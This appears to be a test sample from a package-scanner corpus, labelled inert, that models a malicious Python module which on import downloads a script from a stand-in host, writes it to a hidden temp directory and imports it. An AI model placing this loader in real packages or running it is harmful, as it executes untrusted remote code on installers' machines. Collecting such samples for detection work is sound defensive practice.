# pkgguard corpus 194 (import-time), modelled on [empirical]; inert, never run.
import os
import sys
import tempfile
import urllib.request

_d = tempfile.mkdtemp(prefix=".cache-")
with open(os.path.join(_d, "_cfg.py"), "wb") as _f:
    _f.write(urllib.request.urlopen("https://cdn.example/c.py").read())
sys.path.insert(0, _d)
__import__("_cfg")
